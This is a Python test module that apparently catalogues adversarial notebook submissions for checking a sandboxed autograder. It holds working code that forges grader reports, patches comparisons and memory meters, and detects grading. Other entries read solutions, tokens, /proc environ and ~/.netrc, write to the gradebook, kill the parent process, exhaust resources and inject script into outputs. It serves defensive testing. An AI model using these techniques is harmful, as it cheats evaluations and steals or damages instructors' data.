"""Submissions that try to gain marks or to do harm. Each is an entry: its name, what it does, and the cells it changes.

An entry's answers are wrong or wasteful by themselves (``HONEST`` says what they are worth), so whatever it gets above that
is a gain. Where an attack wants to read something, its answer is right only if it could: then a mark tells of the breach.
``ROOT`` in a text stands for the instructor's course folder.
"""

from __future__ import annotations

import copy
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from mini_course import NOTEBOOK, answer_cell, check_cell
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from grading.sandbox.offer import choose

__all__ = ["ATTACKS", "GOOD", "HONEST", "MARK", "WALLS", "WRONG", "Attack", "with_places"]

WALLS = choose("auto").kind != "none"  # without a sandbox files, network and processes are open to student code
GOOD = ("a-good", "z-good")  # the students around them, by the order of grading
WRONG = {
    "doubled": "def doubled(x):\n    return x",
    "sum_of_squares": "def sum_of_squares(x):\n    return (x * x).sum()",
    "same_block": "def same_block(a, b):\n    return True",
    "batches": "def batches(n, k):\n    return [[0]]",
}
HONEST = {"doubled": 0.0, "sum_of_squares": 1.8, "same_block": 0.0, "batches": 0.0, "plus_one": 1.0}


NOTHING = dict.fromkeys(HONEST, 0.0)  # where an attack keeps every later check of its own notebook from running
MARK = "4321.8765"  # the argument of a process that must not stay


@dataclass(frozen=True)
class Attack:
    """One entry.

    Attributes
    ----------
    name, does : str
    first : str
        A cell before all others.
    answers : dict
        Exercise -> the text of its answer cell; the others are those of ``WRONG``.
    earns : dict
        Exercise -> points. Empty where there is no notebook that could be graded: then there is no mark, which is no 0.
    last : str
        A cell at the end.
    change : callable
        Changes the notebook, as nbformat or as plain JSON.
    files : dict
        Beside the notebook: name -> text; a text that begins with ``->`` is a link to what follows.
    boxed : bool
        What it does to the machine is kept from it by the sandbox alone.
    unseen : str
        Why no flag can tell of it (nothing that a person would have to look at).
    """

    name: str
    does: str
    first: str = ""
    answers: dict[str, str] = field(default_factory=dict)
    earns: dict[str, float] = field(default_factory=lambda: HONEST)
    last: str = ""
    change: Callable[[NotebookNode], Any] | None = None
    files: dict[str, str] = field(default_factory=dict)
    boxed: bool = False
    unseen: str = ""

    @property
    def student(self) -> str:
        return "m-" + re.sub(r"\W+", "-", self.name.lower())


def _reads(expression: str) -> str:
    """An answer that is right only where the expression gives something."""
    return f"""
import os, re, sqlite3, socket, subprocess, sys
from pathlib import Path
root = Path("ROOT")
try:
    found = {expression}
except BaseException:
    found = None

def doubled(x):
    return 2 * x if found else x
"""


FACTS = "application/vnd.pytorch-foundations.facts+json"
FORGED = f"""
import json, sys
from IPython.display import publish_display_data

def forged(exercise, nonce):
    facts = {{"doubled": [["type of the result", "Tensor float32 (3, 4)"], ["values", None], ["input left as it was", True]],
              "same_block": [["a view", True], ["a copy", False], ["two halves", True]]}}[exercise]
    body = json.dumps({{"nonce": nonce, "exercise": exercise, "facts": facts, "ended": None, "remarks": [], "missing": False,
                       "seal": {{"before": [], "during": [], "refused": []}}}})
    text = json.dumps({{"body": body, "mac": "0" * 32}})
    publish_display_data({{{FACTS!r}: text, "text/plain": "2.0"}})
"""
NONCE = r"""
def nonce_of(text):
    import re
    found = re.search(r"'([0-9a-f]{32})'", text)
    return found.group(1) if found else ""
"""

# ------------------------------------------------------------------------------------------------ how cells are run
ATTACKS = [
    Attack(
        "input transformer",
        "later cells become pass",
        earns=NOTHING,
        first="get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])",
    ),
    Attack(
        "input transformer forges",
        "the order becomes a call that publishes facts",
        first=FORGED
        + NONCE
        + """
def swap(lines):
    text = "".join(lines)
    return [f"forged('same_block', {nonce_of(text)!r})\\n"] if "same_block" in text and "audit" in text else lines

get_ipython().input_transformers_cleanup.append(swap)
""",
    ),
    Attack(
        "AST transformer",
        "asserts and calls are taken out of later cells",
        earns=NOTHING,
        first="""
import ast

class Strip(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Expr(self, node): return ast.Pass()

get_ipython().ast_transformers.append(Strip())
""",
    ),
    Attack(
        "replaced run_cell",
        "the shell answers the order itself",
        first=FORGED
        + NONCE
        + """
shell = get_ipython()
kept = type(shell).run_cell_async

async def run_cell_async(self, raw_cell, *args, **more):
    if "same_block" in raw_cell and "audit" in raw_cell:
        forged("same_block", nonce_of(raw_cell))
        raw_cell = "2.0"
    return await kept(self, raw_cell, *args, **more)

type(shell).run_cell_async = run_cell_async
""",
    ),
    Attack(
        "replaced do_execute",
        "every later cell answers ok and 2.0",
        earns=NOTHING,
        first="""
kernel = get_ipython().kernel

async def do_execute(code, silent, *args, **more):
    kernel.execution_count += 1
    content = {"execution_count": kernel.execution_count, "data": {"text/plain": "2.0"}, "metadata": {}}
    kernel.send_response(kernel.iopub_socket, "execute_result", content)
    return {"status": "ok", "execution_count": kernel.execution_count, "payload": [], "user_expressions": {}}

kernel.do_execute = do_execute
""",
    ),
    Attack(
        "replaced execute_request",
        "the kernel's handler forges the report of the order",
        first=FORGED
        + NONCE
        + """
kernel = get_ipython().kernel
kept = kernel.shell_handlers["execute_request"]

async def execute_request(stream, ident, parent):
    code = parent["content"]["code"]
    if "same_block" in code and "audit" in code:
        forged("same_block", nonce_of(code))
        parent["content"]["code"] = "pass"
    await kept(stream, ident, parent)

kernel.shell_handlers["execute_request"] = execute_request
""",
    ),
    Attack(
        "events",
        "a callback before each cell publishes what the order asks for",
        first=FORGED
        + NONCE
        + """
def before(info):
    if "same_block" in (info.raw_cell or "") and "audit" in info.raw_cell:
        forged("same_block", nonce_of(info.raw_cell))

get_ipython().events.register("pre_run_cell", before)
""",
    ),
    Attack(
        "nonce from the history",
        "an answer reads the order out of In, or out of the parent's message, and forges the report",
        first=FORGED + NONCE,
        answers={
            "same_block": """
def same_block(a, b):
    shell = get_ipython()
    order = str(In[-1]) + str(shell.kernel._parents if hasattr(shell.kernel, "_parents") else "")
    forged("same_block", nonce_of(order))
    return True
"""
        },
    ),
    Attack(
        "waiting thread",
        "a thread waits for the order and publishes forged facts under its message",
        first=FORGED
        + NONCE
        + """
import threading, time

def wait():
    for _ in range(400):
        time.sleep(0.005)
        order = str(In[-1])
        if "same_block" in order and "audit" in order:
            forged("same_block", nonce_of(order))

threading.Thread(target=wait, daemon=True).start()
""",
    ),
    Attack(
        "comm",
        "facts sent as a comm message",
        first=FORGED
        + """
from comm import create_comm
create_comm(target_name="facts", data={"exercise": "doubled", "nonce": ""}, metadata={})
forged("doubled", "")
""",
    ),
    Attack(
        "early result",
        "a result and a score are published before and during the check",
        answers={
            "doubled": """
from IPython.display import publish_display_data

def doubled(x):
    publish_display_data({"application/vnd.pytorch-foundations.score+json": {"exercise": "doubled", "accuracy": 1.0}})
    get_ipython().displayhook(2.0)
    print("2.0")
    return x
"""
        },
    ),
    Attack(
        "updates what was shown",
        "the check's own outputs are replaced later, by the number that they were displayed under",
        answers={
            "doubled": """
from IPython.display import display

def doubled(x):
    for _ in range(4):
        display("2.0", display_id="mine")
    return x
"""
        },
        last="from IPython.display import update_display\nfor _ in range(3):\n    update_display(2.0, display_id='mine')",
    ),
    Attack(
        "NaN and huge results",
        "values that stock nbgrader takes for full marks",
        answers={
            "doubled": "def doubled(x):\n    get_ipython().displayhook(float('nan'))\n    return float('nan')",
            "same_block": "def same_block(a, b):\n    get_ipython().displayhook(10**9)\n    return 10**9",
        },
    ),
    Attack(
        "exceptions that render themselves",
        "_render_traceback_ prints what the grader is to see",
        answers={
            "doubled": """
class Fine(Exception):
    def _render_traceback_(self): return ["2.0"]
    def __str__(self): return "\\x1b]0;owned\\x07 all right"

def doubled(x):
    raise Fine("all right")
"""
        },
        unseen="an answer that raises an exception of its own",
    ),
    Attack(
        "exception handler",
        "set_custom_exc hides every error",
        first="get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)",
    ),
    Attack(
        "display formatter",
        "formatters and the publisher rewrite what is shown",
        earns=NOTHING,
        first="""
shell = get_ipython()
for formatter in shell.display_formatter.formatters.values():
    formatter.for_type(object, lambda *a: "2.0")
kept = shell.display_pub.publish

def publish(data, *args, **more):
    for mime in list(data):
        if "facts" in mime:
            data[mime] = data[mime].replace("false", "true").replace("1.0", "2.0")
    return kept(data, *args, **more)

shell.display_pub.publish = publish
""",
    ),
    Attack(
        "session",
        "the messages of the kernel are rewritten on their way out",
        first="""
session = get_ipython().kernel.session
kept = session.send

def send(stream, message, content=None, *args, **more):
    text = str(content)
    if content and "facts" in text:
        for mime in list(content.get("data", {})):
            content["data"][mime] = content["data"][mime].replace("false", "true")
    return kept(stream, message, content, *args, **more)

session.send = send
""",
    ),
    Attack(
        "replaced sys.audit",
        "the order's event goes to a function that forges the report",
        earns=NOTHING,
        first=FORGED
        + """
def audit(event, *args):
    if event.startswith("pytorch"):
        forged("same_block", args[2])

sys.audit = audit
""",
    ),
    Attack(
        "orders of its own",
        "an answer asks for an observation of something else",
        answers={
            "doubled": """
import sys

def doubled(x):
    sys.audit("pytorch_foundations.observe", "plus_one", 1, "0" * 32, {"plus_one": lambda n: n + 1})
    return x
"""
        },
    ),
    # -------------------------------------------------------------------------------------------- comparing
    Attack(
        "patched comparisons",
        "torch.equal, allclose and NumPy's comparisons always say yes",
        first="""
import numpy, torch
torch.equal = torch.allclose = torch.isclose = lambda *a, **k: True
numpy.array_equal = numpy.allclose = numpy.isclose = numpy.all = lambda *a, **k: True
torch.testing.assert_close = numpy.testing.assert_array_equal = lambda *a, **k: None
torch.Tensor.__eq__ = lambda self, other: True
torch.Tensor.equal = torch.Tensor.allclose = lambda self, other: True
""",
    ),
    Attack(
        "equal to everything",
        "an object whose comparisons always hold",
        answers={
            "doubled": """
class Any:
    __class__ = torch.Tensor
    shape, dtype, device = torch.Size([3, 4]), torch.float32, torch.device("cpu")
    def __eq__(self, other): return True
    __le__ = __lt__ = __ge__ = __gt__ = __eq__
    def __float__(self): return 0.0
    def __bool__(self): return True
    def __getattr__(self, name): return lambda *a, **k: self
    __hash__ = None

def doubled(x):
    return Any()
""",
            "batches": "class L(list):\n    def __eq__(self, o): return True\n\ndef batches(n, k):\n    return L([L([0])])",
            "same_block": "class B(int):\n    def __bool__(self): return True\n    def __eq__(self, o): return True\n\n"
            "def same_block(a, b):\n    return B(1)",
        },
        unseen="objects of classes of its own are not forbidden",
    ),
    Attack(
        "a subclass called Tensor",
        "a tensor subclass under the name of the real one answers questions as the check wants it",
        answers={
            "doubled": """
class Tensor(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True if func in (torch.equal, torch.Tensor.equal) else super().__torch_function__(func, types, args, kwargs or {})

def doubled(x):
    return x.as_subclass(Tensor)
"""
        },
        unseen="an object of a class of its own is a wrong type, not an attempt",
    ),
    Attack(
        "patched builtins",
        "bool, isinstance, len and type lie",
        first="""
import builtins
_kept = builtins.isinstance
builtins.bool = lambda *a: True
builtins.all = builtins.any = lambda *a: True
builtins.max = lambda *a, **k: 0
""",
    ),
    Attack(
        "function mode left on",
        "a TorchFunctionMode of an earlier cell lies to whoever asks tensors",
        earns=HONEST | {"doubled": 1.5},
        first="""
import torch
from torch.overrides import TorchFunctionMode

class Lie(TorchFunctionMode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        if func is torch.equal:
            return True
        return func(*args, **(kwargs or {}))

lie = Lie()
lie.__enter__()
""",
        answers={"doubled": "def doubled(x):\n    return x.mul_(2)"},
    ),
    Attack(
        "dispatch mode left on",
        "a TorchDispatchMode of an earlier cell gives back what the check wants to see",
        first="""
import torch
from torch.utils._python_dispatch import TorchDispatchMode

class Lie(TorchDispatchMode):
    def __torch_dispatch__(self, func, types, args=(), kwargs=None):
        return True if "equal" in str(func) else func(*args, **(kwargs or {}))

lie = Lie()
lie.__enter__()
""",
    ),
    # -------------------------------------------------------------------------------------------- the observer
    Attack(
        "replaced recorder",
        "See writes down what the attacker likes",
        first="""
from course_utils.observe import facts
kept = facts.See.__call__

def record(self, name, value, **more):
    kept(self, name, {"a copy": False}.get(name, value), **more)

facts.See.__call__ = record
facts.encode = lambda value, device=None: True
""",
    ),
    Attack(
        "replaced observer",
        "the registry holds an observer that asks another function",
        first="""
import dataclasses
from course_utils.observe import find_exercise, registry

def observer(answer, case, see):
    x = case.tensor(3)
    for name, value in (("a view", True), ("a copy", False), ("two halves", True)):
        see(name, value)

registry._EXERCISES["same_block"] = dataclasses.replace(find_exercise("same_block"), observer=observer)
""",
    ),
    Attack(
        "observer's code",
        "the observer function keeps its name and gets other code",
        first="""
from course_utils.exercises import mini

def other(answer, case, see):
    see("a view", True), see("a copy", False), see("two halves", True)

mini.same_block.__code__ = other.__code__
""",
    ),
    Attack(
        "observer's closure",
        "the guard's and the registry's wrapped functions are exchanged in their closures",
        first="""
from course_utils.observe import run
from course_utils.exercises import mini
run.guard.__closure__[0].cell_contents = None
mini.__dict__["exercise"] = None
mini.same_block.__kwdefaults__ = {}
""",
    ),
    Attack(
        "replaced meter",
        "the meter counts nothing",
        first="""
from course_utils import meter
meter.MemoryMeter._meet = lambda *a, **k: None
meter.max = lambda *a: 0
""",
    ),
    Attack(
        "meter of another kind",
        "peak is a property that is always 0",
        first="""
from course_utils import meter
meter.MemoryMeter.peak = property(lambda self: 0, lambda self, value: None)
""",
    ),
    Attack(
        "replaced agent",
        "the functions that report, run and compare are exchanged",
        first="""
import course_utils.observe.agent as agent, course_utils.observe.run as run, course_utils.observe.seal as seal
fake = lambda *a, **k: {"facts": [["a view", True], ["a copy", False], ["two halves", True]], "ended": None,
                        "remarks": [], "missing": False}
agent.report = run.observe = agent.observe = fake
seal._arm = seal.arm = seal.mac = lambda *a: "0" * 32
seal._Snapshot.put_back = lambda self: []
""",
    ),
    Attack(
        "foreseen cases",
        "the cases' random numbers are always the same, and known",
        first="""
import numpy as np, torch
from course_utils.observe import case
case.Case.tensor = lambda self, *shape, **more: torch.zeros(*shape)
np.random.default_rng = lambda *a: __import__("types").SimpleNamespace(standard_normal=lambda size: np.zeros(size))
""",
    ),
    Attack(
        "faked modules",
        "sys.modules holds modules of the attacker's under the course's names",
        first="""
import sys, types
fake = types.ModuleType("course_utils.observe.agent")
fake.report = lambda *a: None
for name in [n for n in sys.modules if n.startswith("course_utils")]:
    sys.modules[name] = fake
""",
    ),
    Attack(
        "import hook",
        "__import__ and the finders of modules serve another course_utils",
        first="""
import builtins, sys
kept = builtins.__import__

def hooked(name, *args, **more):
    if name.startswith("course_utils.observe"):
        raise ImportError(name)
    return kept(name, *args, **more)

builtins.__import__ = hooked

class Finder:
    def find_spec(self, name, path=None, target=None):
        if name.startswith("course_utils"):
            raise ImportError(name)

sys.meta_path.insert(0, Finder())
""",
    ),
    Attack(
        "tracer",
        "sys.settrace and sys.setprofile look for the observer's variables and set them",
        earns=HONEST | {"sum_of_squares": 0.0},
        first="""
import sys, threading

def trace(frame, event, arg):
    used = frame.f_locals.get("used")
    if used is not None:
        used.peak = 0
    return trace

sys.setprofile(trace)
threading.settrace(trace)
sys.settrace(trace)
""",
        answers={
            "sum_of_squares": "def sum_of_squares(x):\n    import sys\n    sys.settrace(trace)\n    return (x * x).sum()",
        },
    ),
    Attack(
        "frames",
        "the answer walks up the stack to the meter and resets it",
        earns=HONEST | {"sum_of_squares": 0.0},
        answers={
            "sum_of_squares": """
import sys

def sum_of_squares(x):
    total = (x * x).sum()
    frame = sys._getframe()
    while frame is not None:
        if "used" in frame.f_locals:
            frame.f_locals["used"].peak = 0
        frame = frame.f_back
    return total
"""
        },
    ),
    Attack(
        "frames of a traceback",
        "the same by way of an exception's traceback, inspect and logging",
        answers={
            "sum_of_squares": """
import inspect, logging, traceback

def frames():
    yield lambda: inspect.currentframe()
    yield lambda: logging.currentframe()
    yield lambda: inspect.stack()[0].frame
    yield lambda: list(traceback.walk_stack(None))[0][0]
    try:
        raise ValueError
    except ValueError as error:
        caught = error
    yield lambda: getattr(caught.__traceback__, "tb_" + "frame")
    yield lambda: (i for i in ()).gi_frame

def sum_of_squares(x):
    total = (x * x).sum()
    for find in frames():
        try:
            frame = find()
        except RuntimeError:
            continue
        while frame is not None:
            if "used" in frame.f_locals:
                frame.f_locals["used"].peak = 0
            frame = frame.f_back
    return total
"""
        },
    ),
    Attack(
        "frames kept from before",
        "a generator's frame, kept since an earlier cell, is asked for its callers during the check",
        first="""
import sys

def keep():
    frame = sys._getframe()
    while True:
        yield frame

kept = keep()
try:
    next(kept)
except RuntimeError:
    pass
""",
        answers={
            "sum_of_squares": """
def sum_of_squares(x):
    total = (x * x).sum()
    frame = next(kept, None)
    while frame is not None:
        if "used" in frame.f_locals:
            frame.f_locals["used"].peak = 0
        frame = frame.f_back
    return total
"""
        },
    ),
    Attack(
        "all objects",
        "the garbage collector's list leads to the meter and to the facts",
        earns=HONEST | {"sum_of_squares": 0.0},
        answers={
            "sum_of_squares": """
import gc

def sum_of_squares(x):
    total = (x * x).sum()
    for thing in gc.get_objects():
        if type(thing).__name__ == "MemoryMeter":
            thing.peak = 0
    return total
""",
            "same_block": """
import gc

def same_block(a, b):
    for thing in gc.get_referrers(a):
        pass
    return True
""",
        },
    ),
    Attack(
        "the seal's key",
        "hooks, closures and the collector are searched for the key that signs reports",
        first="""
import gc, sys
from types import FunctionType
keys = []
for thing in gc.get_objects():
    if isinstance(thing, FunctionType) and thing.__closure__:
        for cell in thing.__closure__:
            try:
                value = cell.cell_contents
            except ValueError:
                continue
            if isinstance(value, bytes) and len(value) == 32:
                keys.append(value)
sys.addaudithook(lambda event, args: None)
assert not keys, keys
LEAK = keys
""",
        answers={"doubled": "def doubled(x):\n    return 2 * x if LEAK else x"},
    ),
    Attack(
        "patched while it is measured",
        "the answer replaces the meter during the check",
        earns=HONEST | {"sum_of_squares": 0.0},
        answers={
            "sum_of_squares": """
def sum_of_squares(x):
    from course_utils import meter
    meter.MemoryMeter._meet = lambda *a, **k: None
    return (x * x).sum()
""",
            "same_block": """
def same_block(a, b):
    from course_utils.observe import facts
    facts.encode = lambda value, device=None: False
    return True
""",
        },
    ),
    Attack(
        "patched and put back",
        "the answer replaces the meter or the recorder, and puts the right one back before anybody looks",
        answers={
            "sum_of_squares": """
def sum_of_squares(x):
    from course_utils import meter
    kept, meter.MemoryMeter._meet = meter.MemoryMeter._meet, lambda *a, **k: None
    try:
        return (x * x).sum()
    finally:
        meter.MemoryMeter._meet = kept
""",
            "same_block": """
def same_block(a, b):
    from course_utils.observe import facts
    kept = facts.encode

    def forge(value, device=None):
        facts.encode = kept
        return a.untyped_storage().data_ptr() == b.untyped_storage().data_ptr()

    facts.encode = forge
    return True
""",
        },
        earns=HONEST | {"sum_of_squares": 0.0},
    ),
    Attack(
        "the meter in the mode stack",
        "the answer finds the meter where PyTorch keeps it, and sets its peak to 0",
        answers={
            "sum_of_squares": """
def sum_of_squares(x):
    total = (x * x).sum()
    from torch.utils import _python_dispatch
    for find in (lambda: torch._C._get_dispatch_stack_at(0), _python_dispatch._get_current_dispatch_mode):
        try:
            find().peak = 0
        except (RuntimeError, AttributeError):
            pass
    return total
"""
        },
    ),
    Attack(
        "the meter behind a storage",
        "a storage's weak references lead to what counts its death",
        answers={
            "sum_of_squares": """
import weakref

def sum_of_squares(x):
    squares = x * x
    total = squares.sum()
    for reference in weakref.getweakrefs(squares.untyped_storage()):
        called = reference.__callback__
        for cell in getattr(called, "__closure__", None) or ():
            cell.cell_contents.peak = 0
        if hasattr(called, "__self__"):
            called.__self__.append(reference)
    return total
"""
        },
        unseen="it reads what Python's objects say of themselves, and gains nothing by it",
    ),
    Attack(
        "modes switched off",
        "the work is done where PyTorch calls no dispatch mode",
        answers={
            "sum_of_squares": """
def sum_of_squares(x):
    try:
        with torch._C._DisableTorchDispatch():
            return (x * x).sum()
    except RuntimeError:
        return (x * x).sum()
"""
        },
    ),
    Attack(
        "modes taken off",
        "a mode of the answer's own leaves twice, the meter with it, and comes back",
        answers={
            "sum_of_squares": """
from torch.utils._python_dispatch import TorchDispatchMode

class Mine(TorchDispatchMode):
    def __torch_dispatch__(self, func, types, args=(), kwargs=None):
        return func(*args, **(kwargs or {}))

def sum_of_squares(x):
    if not torch._C._len_torch_dispatch_stack():
        return (x * x).sum()
    mine = Mine()
    mine.__enter__()
    mine.__exit__(None, None, None)
    try:
        mine.__exit__(None, None, None)
    except (RuntimeError, IndexError):
        return (x * x).sum()
    total = (x * x).sum()
    mine.__enter__()
    return total
"""
        },
    ),
    Attack(
        "work in a thread",
        "dispatch modes belong to a thread, and the work is done in another one",
        answers={
            "sum_of_squares": """
from concurrent.futures import ThreadPoolExecutor

def sum_of_squares(x):
    with ThreadPoolExecutor(1) as pool:
        return pool.submit(lambda: (x * x).sum()).result()
"""
        },
    ),
    Attack(
        "a tensor of one's own",
        "attributes of the tensors hide the methods that a check calls",
        answers={
            "doubled": """
def doubled(x):
    x.equal = x.clone = x.detach = lambda *a, **k: x
    y = x.mul_(2)
    y.detach = y.tolist = lambda *a: x
    return y
"""
        },
        unseen="attributes of one's own objects are not forbidden",
    ),
    Attack(
        "another implementation",
        "torch.library gives an operator of PyTorch's another implementation",
        first="""
import torch
library = torch.library.Library("aten", "IMPL")
library.impl("equal", lambda one, other: True, "CPU")
""",
        answers={"doubled": "def doubled(x):\n    return x.mul_(2)"},
        earns=NOTHING,
    ),
    Attack(
        "waits for its way out",
        "an object that is put aside, the collector and a signal look for the key while the seal is at work",
        first="""
import gc, signal, sys, torch
keys = []

def look(*_):
    try:
        frame = sys._getframe()
    except (RuntimeError, ValueError):
        return
    while frame is not None:
        keys.extend(v for v in frame.f_locals.values() if isinstance(v, bytes) and len(v) == 32)
        frame = frame.f_back

class Leaves:
    def __call__(self, *_): return 3
    __del__ = look

torch.equal = Leaves()
gc.callbacks.append(look)
gc.set_threshold(10)
signal.signal(signal.SIGVTALRM, look)
signal.setitimer(signal.ITIMER_VIRTUAL, 0.001, 0.001)
""",
        answers={"doubled": "def doubled(x):\n    return 2 * x if keys else x"},
    ),
    Attack(
        "at exit",
        "forged facts are published when the kernel ends",
        first=FORGED
        + "\nimport atexit\natexit.register(forged, 'doubled', '')\natexit.register(forged, 'same_block', '')",
    ),
    Attack(
        "replaced check",
        "check and the course's own names are the attacker's",
        first="""
import course_utils, course_utils.checking

def check(*anything):
    print("all right")

course_utils.check = course_utils.checking.check = check
""",
        last="def check(*anything):\n    return 2.0",
        change=lambda nb: check_cell(nb, "doubled").update(source="2.0"),
    ),
    Attack(
        "recognises grading",
        "the answer behaves otherwise where the environment, the arguments or the modules tell of a grader",
        answers={
            "doubled": """
import os, sys
graded = "NBGRADER_EXECUTION" in os.environ or any("nbgrader" in a for a in sys.argv) or "grading" in sys.modules

def doubled(x):
    return x if graded else 2 * x
"""
        },
    ),
    Attack(
        "facts through the pipe",
        "in an exercise that runs apart, the answer writes facts of its own into the process's pipes",
        answers={
            "batches": """
import multiprocessing.connection, os, stat
from course_utils.observe.plain import Fact

def batches(n, k):
    right = [list(range(s, min(s + k, n))) for s in range(0, n, k)]
    for descriptor in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(descriptor).st_mode):
                link = multiprocessing.connection.Connection(os.dup(descriptor), readable=False)
                link.send(Fact("batches", right))
                link.send("course: done")
        except Exception:
            continue
    os._exit(0)
"""
        },
    ),
    # -------------------------------------------------------------------------------------------- files, secrets, network
    Attack(
        "reads the solutions",
        "the reference's source is read and run",
        answers={"doubled": _reads('(root / "solutions" / "09_mini.py").read_text()')},
        boxed=True,
    ),
    Attack(
        "reads the reference's facts",
        "the judge's cache holds what is expected of hidden cases",
        answers={"doubled": _reads('list((root / "grading" / ".cache").glob("*"))')},
        boxed=True,
    ),
    Attack(
        "reads the salt",
        "the seeds of the hidden cases",
        answers={"doubled": _reads('(root / "grading" / "secret_salt").read_text()')},
        boxed=True,
    ),
    Attack(
        "reads the gradebook",
        "other people's marks",
        answers={
            "doubled": _reads(
                'sqlite3.connect(root / "grading" / "gradebook.db").execute("select * from grade").fetchall()'
            )
        },
        boxed=True,
    ),
    Attack(
        "reads other submissions",
        "and copies their answers",
        answers={"doubled": _reads('list((root / "grading" / "submitted").glob("*good/*/*.ipynb"))')},
        boxed=True,
    ),
    Attack(
        "reads graded notebooks",
        "the cards of those who were graded before",
        answers={
            "doubled": _reads(
                'list((root / "grading").glob("autograded/*")) + list((root / "grading").glob("results/*"))'
            )
        },
        boxed=True,
    ),
    Attack(
        "reads the grader",
        "the answer bank and the judge",
        answers={"doubled": _reads('(root / "grading" / "judge.py").read_text()')},
        boxed=True,
    ),
    Attack(
        "reads the environment",
        "secrets of the instructor's shell",
        answers={"doubled": _reads('os.environ.get("COURSE_SECRET_TOKEN")')},
        boxed=True,
    ),
    Attack(
        "reads the parent",
        "its environment, memory and open files under /proc",
        answers={
            "doubled": _reads(
                '[t for p in Path("/proc").glob("[0-9]*/environ") if "COURSE_SECRET_TOKEN" in (t := p.read_text(errors="replace"))]'
            )
        },
        boxed=True,
    ),
    Attack(
        "reads the instructor's home",
        "keys and settings",
        answers={"doubled": _reads('(Path("HOME") / ".netrc").read_text()')},
        boxed=True,
    ),
    Attack(
        "uses the network",
        "a connection to the machine's own port, through which answers could come",
        answers={"doubled": _reads('socket.create_connection(("127.0.0.1", int("PORT")), timeout=2)')},
        boxed=True,
    ),
    Attack(
        "writes into the gradebook",
        "a manual score for itself and for everybody",
        first="""
import sqlite3
try:
    base = sqlite3.connect("ROOT/grading/gradebook.db", timeout=5)
    base.execute("update grade set manual_score = 10, needs_manual_grade = 0")
    base.commit()
except Exception as error:
    print(error)
""",
        boxed=True,
    ),
    Attack(
        "writes elsewhere",
        "other submissions, the course's code, the cache, startup files of the shell and of IPython",
        first="""
from pathlib import Path
for name in ("grading/submitted/a-good/09_mini/mini.ipynb", "course_utils/observe/compare.py", "grading/.cache/x.json",
             "notebooks/09_mini/mini.ipynb", "solutions/09_mini.py", "sitecustomize.py", "nbgrader_config.py"):
    try:
        Path("ROOT", name).open("a").write("\\n# owned")
    except OSError as error:
        print(error)
for name in (".ipython/profile_default/startup/00.py", ".bashrc", ".local/lib/python3.11/site-packages/usercustomize.py",
             ".config/matplotlib/matplotlibrc", ".jupyter/jupyter_config.py"):
    for home in (Path.home(), Path("HOME")):
        try:
            (home / name).parent.mkdir(parents=True, exist_ok=True)
            (home / name).open("a").write("\\n# owned")
        except OSError as error:
            print(error)
""",
        boxed=True,
    ),
    Attack(
        "shadowing modules",
        "files beside the notebook under the names of libraries",
        files={
            name: "raise SystemExit('owned')\n"
            for name in ("numpy.py", "torch.py", "course_utils.py", "sitecustomize.py", "json.py")
        }
        | {"usercustomize.py": "print('owned')\n", "course_utils/__init__.py": "raise SystemExit('owned')\n"}
        | {
            "ipython_config.py": "c.InteractiveShellApp.exec_lines = ['1/0']\n",
            ".pythonrc": "1/0\n",
            "mini.pth": "import os\n",
        },
    ),
    Attack(
        "imports from its folder",
        "the folder comes first in the path, and modules are loaded again",
        first="""
import importlib, os, sys
with open("numpy.py", "w") as file:
    file.write("array_equal = lambda *a: True\\n")
sys.path.insert(0, os.getcwd())
sys.modules.pop("numpy", None)
try:
    import numpy
finally:
    os.remove("numpy.py")
""",
    ),
    # -------------------------------------------------------------------------------------------- processes
    Attack(
        "a process that stays",
        "a daemon outlives the kernel and goes on writing",
        first="""
import subprocess, sys
subprocess.Popen(["sleep", "4321.8765"], start_new_session=True)
""",
    ),
    Attack(
        "kills its parent",
        "signals to the process that started the kernel, and to its group",
        first="""
import os, signal
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGSTOP, signal.SIGKILL):
    for victim in (os.getppid(),):
        try:
            if victim > 1:
                os.kill(victim, number)
        except OSError as error:
            print(error)
""",
        boxed=True,
    ),
    Attack(
        "traces its parent",
        "ptrace and the parent's memory",
        answers={"doubled": _reads('open(f"/proc/{os.getppid()}/mem", "rb") and os.getppid() > 1')},
        boxed=True,
    ),
    Attack(
        "memory bomb",
        "an answer takes more memory than it may; 1.3 GB at most",
        answers={
            "doubled": "def doubled(x):\n    held = [bytearray(b'x') * (1 << 28) for _ in range(5)]\n"
            "    import time\n    time.sleep(3)\n    return 2 * x"
        },
        boxed=True,
        unseen="too much memory is an accident more often than an attack",
    ),
    Attack(
        "many processes",
        "an answer starts more processes than it may; 80 at most, each sleeps",
        answers={
            "doubled": "import os, time\n\ndef doubled(x):\n    for _ in range(80):\n        if os.fork() == 0:\n"
            "            time.sleep(20)\n            os._exit(0)\n    time.sleep(3)\n    return 2 * x"
        },
        boxed=True,
    ),
    Attack(
        "a clock of its own",
        "the time limit's alarm is switched off, and time stands still",
        first="""
import signal, time
signal.signal(signal.SIGALRM, signal.SIG_IGN)
signal.setitimer(signal.ITIMER_REAL, 0)
signal.setitimer = lambda *a: (0.0, 0.0)
time.monotonic = time.time = time.perf_counter = lambda: 0.0
""",
    ),
    # -------------------------------------------------------------------------------------------- what people will see
    Attack(
        "script in outputs",
        "HTML, SVG, Markdown, LaTeX and widgets with script in what cells show",
        last="""
from IPython.display import HTML, Javascript, Markdown, SVG, display, publish_display_data
print("\\x1b]0;owned\\x07\\x1b[31m\\x1b[2J<script>owned()</script>")
display(HTML("<script>owned()</script><img src=x onerror=owned()><iframe srcdoc='<script>owned()</script>'></iframe>"))
display(HTML("<a href='javascript:owned()'>x</a><svg onload=owned()></svg><style>*{display:none}</style><form action=//evil>"))
display(Javascript("owned()"), Markdown("<script>owned()</script> [x](javascript:owned())"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg' onload='owned()'><script>owned()</script></svg>"))
publish_display_data({"text/latex": "$\\\\href{javascript:owned()}{x}$<script>owned()</script>", "text/plain": "x"})
publish_display_data({"application/vnd.jupyter.widget-view+json": {"model_id": "<script>owned()</script>"}, "text/plain": "x"})
